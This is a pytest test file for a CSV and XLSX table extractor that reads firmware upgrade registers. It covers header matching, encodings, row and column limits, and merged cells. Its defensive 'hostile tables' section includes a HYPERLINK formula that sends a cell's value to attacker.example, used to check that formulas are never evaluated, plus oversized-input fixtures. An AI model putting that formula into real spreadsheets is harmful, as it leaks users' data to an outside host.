"""Tabular inputs: header tokens, tolerant header matching, title rows, CSV and XLSX grids."""

from __future__ import annotations

import io

import openpyxl
import pytest

from extractors.registers import CPL_EXPORT, FIR_EXPORT
from extractors.tables import (
    HEADER_SCAN_ROWS,
    TableError,
    csv_grid,
    header_token,
    locate_table,
    match_header,
    read_grids,
    table_records,
    xlsx_grids,
)
from firpath.demo.builders import Sheet, csv_bytes, workbook

pytestmark = pytest.mark.unit

CPL_KEYS = {"entry_id", "manufacturer_id", "model_id", "hardware_version", "firmware_version"}


@pytest.mark.parametrize(
    ("header", "token"),
    [
        ("CPL Entry ID", "cplentryid"),
        ("cpl_entry_id", "cplentryid"),
        ("CPL-Entry-ID ", "cplentryid"),
        ("  Manufacturer Identifier", "manufactureridentifier"),
        ("FW. Version", "fwversion"),
        ("Model Id (hex)", "modelidhex"),
        ("", ""),
    ],
)
def test_header_token_ignores_case_and_punctuation(header: str, token: str) -> None:
    assert header_token(header) == token


@pytest.mark.parametrize(
    "header",
    [
        ["CPL Entry ID", "Manufacturer Identifier", "Model Identifier", "Hardware Version", "Firmware Version"],
        ["Entry ID", "Manufacturer ID", "Model ID", "HW Version", "FW Version"],
        ["cpl_entry_id", "MANUFACTURER-ID", "model id", "hw ver", "Fw_Ver"],
        ["CPL ID", "Mfr ID", "Model Id (hex)", "HW Ver.", "FW Version"],
        ["Entry ID ", " Manufacturer Id (hex)", "Model-Identifier", "Hardware_Version", "firmware version"],
    ],
    ids=["canonical", "short", "snake-and-case", "abbreviated", "padded"],
)
def test_every_cpl_header_spelling_finds_the_required_columns(header: list[str]) -> None:
    assert match_header(header, CPL_EXPORT) == {
        "entry_id": 0, "manufacturer_id": 1, "model_id": 2, "hardware_version": 3, "firmware_version": 4,
    }  # fmt: skip


def test_columns_are_found_wherever_they_stand_and_names_are_optional() -> None:
    header = ["Status", "FW Version", "Model Name", "Model ID", "Manufacturer", "HW Version", "Mfr ID", "Entry ID"]
    assert match_header(header, CPL_EXPORT) == {
        "firmware_version": 1, "model_name": 2, "model_id": 3, "manufacturer_name": 4,
        "hardware_version": 5, "manufacturer_id": 6, "entry_id": 7, "status": 0,
    }  # fmt: skip


def test_an_id_column_is_not_taken_for_a_name_column_or_the_reverse() -> None:
    found = match_header(["Model", "Model ID", "Manufacturer", "Manufacturer ID"], CPL_EXPORT)
    assert found["model_name"] == 0 and found["model_id"] == 1
    assert found["manufacturer_name"] == 2 and found["manufacturer_id"] == 3


@pytest.mark.parametrize("title_rows", [0, 1, 3])
def test_title_rows_above_the_header_are_passed_over(title_rows: int) -> None:
    titles = [["Central Products List - export"], ["Generated 2024-03-01", ""], ["", "", ""]][:title_rows]
    grid = [*titles, ["Entry ID", "Mfr ID", "Model ID", "HW Version", "FW Version"], ["1101", "10A7", "0101", "2", "01000005"]]
    located = locate_table(grid, CPL_EXPORT)
    assert located.header_row == title_rows
    assert table_records(grid, located) == [
        (title_rows + 2, {"entry_id": "1101", "manufacturer_id": "10A7", "model_id": "0101",
                          "hardware_version": "2", "firmware_version": "01000005"}),
    ]  # fmt: skip


def test_a_title_row_that_names_some_columns_is_not_the_header() -> None:
    grid = [
        ["CPL Entry ID", "Firmware Version"],  # a summary line, not the table
        ["CPL Entry ID", "Manufacturer ID", "Model ID", "HW Version", "Firmware Version"],
        ["1101", "10A7", "0101", "0002", "01000005"],
    ]
    assert locate_table(grid, CPL_EXPORT).header_row == 1


def test_a_missing_required_column_is_named() -> None:
    grid = [["Entry ID", "Mfr ID", "Model ID", "FW Version"], ["1101", "10A7", "0101", "01000005"]]
    with pytest.raises(TableError, match=r"CPL export: required column\(s\) not found: Hardware Version"):
        locate_table(grid, CPL_EXPORT)


def test_a_header_below_the_scanned_rows_is_not_found() -> None:
    grid = [[f"note {i}"] for i in range(HEADER_SCAN_ROWS)] + [["CPL Entry ID", "Upgrade Path"]]
    with pytest.raises(TableError, match="CPL Entry ID"):
        locate_table(grid, FIR_EXPORT)


def test_table_records_skip_blank_rows_and_pad_short_rows() -> None:
    grid = [["CPL Entry ID", "Notes", "Upgrade Path"], ["1102", "x", " 1101 "], ["", " ", ""], ["1103"]]
    located = locate_table(grid, FIR_EXPORT)
    assert table_records(grid, located) == [
        (2, {"entry_id": "1102", "upgrade_path": "1101"}),
        (4, {"entry_id": "1103", "upgrade_path": ""}),
    ]


# --- CSV ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_delimiter_is_sniffed(delimiter: str) -> None:
    rows = [("Entry ID", "Manufacturer Name", "FW Version"), ("1101", "Acme, Inc", "01000005"), ("1102", "Bolt", "01010003")]
    assert csv_grid(csv_bytes(rows, delimiter=delimiter)) == [list(r) for r in rows]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"\xef\xbb\xbfEntry ID,Name\r\n1101,Z\xc3\xa4hler\r\n", [["Entry ID", "Name"], ["1101", "Zähler"]]),
        ("Entry ID,Name\r\n1101,Zähler\r\n".encode("cp1252"), [["Entry ID", "Name"], ["1101", "Zähler"]]),
        ("Entry ID,Name\r\n1101,Zähler\r\n".encode("utf-16"), [["Entry ID", "Name"], ["1101", "Zähler"]]),
    ],
    ids=["utf-8-bom", "cp1252", "utf-16"],
)
def test_csv_encodings(data: bytes, expected: list[list[str]]) -> None:
    assert csv_grid(data) == expected


def test_read_grids_names_a_csv_grid_after_the_file() -> None:
    assert read_grids("cpl.csv", b"Entry ID,FW Version\r\n1101,01000005\r\n") == {
        "cpl.csv": [["Entry ID", "FW Version"], ["1101", "01000005"]]
    }


# --- XLSX -----------------------------------------------------------------------------------------


def test_xlsx_every_sheet_in_order_as_strings() -> None:
    data = workbook(
        [
            Sheet("Cover", [["CPL export"]]),
            Sheet("CPL", [["Entry ID", "FW Version"], ["1101", "01000005"]]),
        ]
    )
    assert read_grids("cpl.xlsx", data) == {
        "Cover": [["CPL export"]],
        "CPL": [["Entry ID", "FW Version"], ["1101", "01000005"]],
    }


def test_xlsx_numbers_are_written_as_people_read_them_and_formulas_never_evaluated() -> None:
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "CPL"
    ws.append(["Entry ID", "HW Version", "Firmware Version", "Note"])
    ws.append([1101, 2.0, "01000005", "=1+1"])  # no saved value: openpyxl wrote none
    ws.append([1102, None, "01010003", 1.5])
    buffer = io.BytesIO()
    book.save(buffer)
    grid = xlsx_grids(buffer.getvalue())["CPL"]
    assert grid[1] == ["1101", "2", "01000005", "=1+1"]  # its text, as written: never "2"
    assert grid[2] == ["1102", "", "01010003", "1.5"]


def test_a_zip_that_is_not_a_workbook_is_a_table_error() -> None:
    buffer = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(TableError, match="not a readable XLSX workbook"):
        read_grids("cpl.xlsx", buffer.getvalue())


# --- hostile tables: bounds, encodings, formulas, merged cells (docs/reliability.md) ---------------

from extractors.tables import bounded_grid, clean_cell, decode_text, text_encoding, xlsx_tables  # noqa: E402
from firpath.domain.limits import DocumentLimits  # noqa: E402
from tests.hostile_builders import (  # noqa: E402
    MAP_HEADER,
    MAP_ROW,
    inline_row,
    map_csv,
    map_sheet_rows,
    sheet_xml,
    with_saved_values,
    workbook_with_sheet,
    xlsx,
)

MAP_TEXT = "Mfr,Model ID,HW Ver,Current FW,Target FW\r\nBäcker,Zähler 5,0002,01020005,01030001\r\n"
MAP_GRID = [list(MAP_HEADER), ["Bäcker", "Zähler 5", "0002", "01020005", "01030001"]]


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (MAP_TEXT.encode("utf-8"), "utf-8"),
        (b"\xef\xbb\xbf" + MAP_TEXT.encode("utf-8"), "utf-8-sig"),
        (MAP_TEXT.encode("cp1252"), "cp1252"),
        (MAP_TEXT.encode("utf-16"), "utf-16"),  # with its byte-order mark (Excel's "Unicode text")
        (b"\xfe\xff" + MAP_TEXT.encode("utf-16-be"), "utf-16"),
        (MAP_TEXT.encode("utf-16-le"), "utf-16-le"),  # no mark: told by its zero bytes
        (MAP_TEXT.encode("utf-16-be"), "utf-16-be"),
    ],
    ids=["utf-8", "utf-8-bom", "cp1252", "utf-16-bom", "utf-16-be-bom", "utf-16-le-no-bom", "utf-16-be-no-bom"],
)
def test_a_csv_in_any_of_the_encodings_excel_writes_reads_the_same(data: bytes, encoding: str) -> None:
    assert text_encoding(data) == encoding
    assert csv_grid(data) == MAP_GRID


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        (MAP_TEXT.encode("utf-16") + b"\x00", "\ufffd"),  # truncated: an odd number of bytes
        (b"\xef\xbb\xbf" + "Mfr,Model\r\nZähler".encode("cp1252"), "Z\ufffdhler"),  # a BOM that lies
        ("Mfr,Model\r\nZ\x81hler".encode("latin-1"), "Z\ufffdhler"),  # a byte cp1252 leaves undefined
    ],
    ids=["truncated-utf-16", "bom-then-cp1252", "undefined-cp1252-byte"],
)
def test_bytes_no_encoding_can_decode_become_a_visible_replacement_character(data: bytes, shown: str) -> None:
    assert shown in decode_text(data)
    assert any(shown in cell for row in csv_grid(data) for cell in row)


def test_cells_lose_trailing_spaces_and_invisible_characters() -> None:
    assert clean_cell(" 1101 \u00a0") == "1101"
    assert clean_cell("\u200b1101\ufeff ") == "1101"
    assert clean_cell("Zähler 5") == "Zähler 5"  # inner spaces are the cell's own
    assert csv_grid(b"Entry ID ,FW Version\t\r\n1101\xe2\x80\x8b , 01000005 \r\n") == [
        ["Entry ID", "FW Version"], ["1101", "01000005"],
    ]  # fmt: skip


def test_an_unclosed_quote_is_refused_at_its_line_not_read_to_the_end() -> None:
    data = b'Mfr,Model ID\r\n10A7,"0101\r\n' + b"x" * 200_000 + b"\r\n"
    with pytest.raises(TableError, match=r"not readable as CSV \(line 3: field larger than field limit"):
        csv_grid(data)


# rows and cells are counted as they stream in ---------------------------------------------------------


class Counting:
    """An iterator that counts the rows taken from it."""

    def __init__(self, rows):
        self._rows = iter(rows)
        self.taken = 0

    def __iter__(self):
        return self

    def __next__(self):
        row = next(self._rows)
        self.taken += 1
        return row


def test_a_table_over_the_row_limit_is_refused_after_reading_one_row_more() -> None:
    rows = Counting([["row", str(i)] for i in range(1_000_000)])
    with pytest.raises(TableError, match=r"more than 1,000 rows \(row 1,001 holds data\).*FIRPATH_MAX_SHEET_ROWS"):
        bounded_grid(rows, DocumentLimits(sheet_rows=1_000))
    assert rows.taken == 1_001


def test_trailing_blank_rows_are_not_counted_nor_kept_but_blank_rows_between_are() -> None:
    rows = [["a"], [], ["", " ".strip()], ["b", "", ""], *([[""]] * 5_000)]
    assert bounded_grid(rows, DocumentLimits(sheet_rows=4)) == [["a"], [], [], ["b"]]


def test_a_million_row_csv_is_refused_by_the_default_row_limit() -> None:
    data = map_csv([MAP_HEADER]) + map_csv([MAP_ROW]) * 1_000_000
    limit = DocumentLimits().sheet_rows
    with pytest.raises(TableError, match=rf"more than {limit:,} rows.*raise FIRPATH_MAX_SHEET_ROWS"):
        csv_grid(data)


def test_a_million_row_workbook_is_refused_by_the_row_limit_as_it_streams() -> None:
    data = workbook_with_sheet(sheet_xml(map_sheet_rows(1_000_000)))
    with pytest.raises(TableError, match=r"more than 2,000 rows \(row 2,001 holds data\)"):
        xlsx_grids(data, DocumentLimits(sheet_rows=2_000))


def test_the_row_limit_is_a_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FIRPATH_MAX_SHEET_ROWS", "3")
    assert len(csv_grid(map_csv([MAP_HEADER, MAP_ROW, MAP_ROW]))) == 3
    with pytest.raises(TableError, match="more than 3 rows"):
        csv_grid(map_csv([MAP_HEADER, MAP_ROW, MAP_ROW, MAP_ROW]))


def test_a_row_wider_than_the_column_limit_is_refused() -> None:
    with pytest.raises(TableError, match=r"row 2 has 70 cells, more than the 64 .*FIRPATH_MAX_SHEET_COLUMNS"):
        csv_grid(map_csv([MAP_HEADER, ["x"] * 70]), DocumentLimits(sheet_columns=64))
    data = workbook_with_sheet(sheet_xml(inline_row(MAP_HEADER) + b'<row><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>'))
    with pytest.raises(TableError, match=r"row 2 has 16,384 cells, more than the 64"):
        xlsx_grids(data, DocumentLimits(sheet_columns=64))


def test_a_workbooks_stated_dimensions_do_not_pad_its_rows() -> None:
    """A sheet claiming A1:XFD1048576 would otherwise be read as 16,384 cells in each of 1,048,576 rows."""
    data = workbook_with_sheet(sheet_xml(map_sheet_rows(2), dimension="A1:XFD1048576"))
    assert xlsx_grids(data)["Paths"] == [list(MAP_HEADER), list(MAP_ROW), list(MAP_ROW)]


def test_row_numbers_past_excels_last_row_are_refused() -> None:
    data = workbook_with_sheet(sheet_xml(inline_row(MAP_HEADER, row=1) + inline_row(MAP_ROW, row=2_000_000)))
    with pytest.raises(TableError, match=r"rows beyond row 1,048,576, the last row of any Excel sheet"):
        xlsx_grids(data, DocumentLimits(sheet_rows=10))


# formulas: never evaluated -------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"01020005")'


def test_a_formula_reads_as_the_value_the_workbook_saved_for_it() -> None:
    data = with_saved_values(xlsx({"Paths": [MAP_HEADER, ["10A7", "0101", "0002", HYPERLINK, "01030001"]]}), {"D2": "01020005"})
    tables = xlsx_tables(data, DocumentLimits())
    assert tables.grids["Paths"][1] == ["10A7", "0101", "0002", "01020005", "01030001"]
    assert tables.notices == ()


def test_a_formula_without_a_saved_value_reads_as_its_text_and_says_so() -> None:
    data = xlsx({"Paths": [MAP_HEADER, ["10A7", "0101", "0002", HYPERLINK, "=D2"], ["10A7", "=A2", "0002", "01020005", "01030001"]]})
    tables = xlsx_tables(data, DocumentLimits())
    assert tables.grids["Paths"][1:] == [
        ["10A7", "0101", "0002", HYPERLINK, "=D2"],
        ["10A7", "=A2", "0002", "01020005", "01030001"],
    ]
    assert tables.notices == (
        "sheet 'Paths': 3 formula cell(s) had no saved value and were read as their formula text, never evaluated",
    )


# merged cells: read as a person sees them -----------------------------------------------------------

from extractors.spreadsheet import MAP_SPREADSHEET  # noqa: E402


def test_a_group_cell_merged_over_two_columns_names_both() -> None:
    data = xlsx(
        {"Paths": [["MAP upgrade paths"], ["Device", "", "", "Firmware", ""], ["Mfr", "Model ID", "HW Ver", "Current", "Target"], MAP_ROW]},
        merges={"Paths": ["A2:C2", "D2:E2"]},
    )
    grid = xlsx_grids(data)["Paths"]
    assert grid[1] == ["Device", "Device", "Device", "Firmware", "Firmware"]
    located = locate_table(grid, MAP_SPREADSHEET)
    assert located.header_row == 2
    assert located.columns == {"manufacturer": 0, "model": 1, "hardware_version": 2, "base": 3, "target": 4}
    assert located.labels["base"] == "Current Firmware" and located.labels["target"] == "Target Firmware"
    assert located.labels["manufacturer"] == "Mfr"


def test_header_cells_merged_down_over_two_rows_are_found_in_the_lower_one() -> None:
    data = xlsx(
        {"Paths": [["Mfr", "Model ID", "HW Ver", "Firmware", ""], ["", "", "", "Current FW", "Target FW"], MAP_ROW]},
        merges={"Paths": ["A1:A2", "B1:B2", "C1:C2", "D1:E1"]},
    )
    grid = xlsx_grids(data)["Paths"]
    assert grid[1] == ["Mfr", "Model ID", "HW Ver", "Current FW", "Target FW"]
    assert locate_table(grid, MAP_SPREADSHEET).header_row == 1


def test_a_merged_header_exported_to_csv_is_read_as_two_header_rows() -> None:
    """A CSV export keeps a merged cell's text in its first cell only: the blanks belong to it."""
    grid = csv_grid(map_csv([["Mfr", "Model ID", "HW Ver", "Firmware", ""], ["", "", "", "From", "To"], MAP_ROW]))
    located = locate_table(grid, MAP_SPREADSHEET)
    assert (located.header_row, located.columns["base"], located.columns["target"]) == (1, 3, 4)
    assert located.labels["manufacturer"] == "Mfr" and located.labels["target"] == "To Firmware"


def test_a_single_row_header_is_preferred_to_a_two_row_reading() -> None:
    grid = [["Firmware", "", "", "", ""], list(MAP_HEADER), ["Firmware", "x", "x", "Current", "Target"], list(MAP_ROW)]
    assert locate_table(grid, MAP_SPREADSHEET).header_row == 1


def test_a_value_merged_down_over_data_rows_is_in_each_of_them() -> None:
    data = xlsx({"Paths": [MAP_HEADER, MAP_ROW, ["", "0101", "0002", "01020005", "01030002"]]}, merges={"Paths": ["A2:A3"]})
    assert [row[0] for row in xlsx_grids(data)["Paths"]] == ["Mfr", "10A7", "10A7"]


def test_a_merged_range_far_beyond_the_sheet_costs_no_more_than_the_sheet() -> None:
    data = workbook_with_sheet(sheet_xml(map_sheet_rows(1), merges=["A2:XFD1048576"]))
    assert xlsx_grids(data)["Paths"] == [list(MAP_HEADER), ["10A7"] * 5]


def test_merged_ranges_that_overlap_beyond_the_sheets_size_are_refused() -> None:
    data = workbook_with_sheet(sheet_xml(map_sheet_rows(3), merges=["A2:E4"] * 2))
    with pytest.raises(TableError, match="merged cell ranges overlap far beyond the sheet's size"):
        xlsx_grids(data)
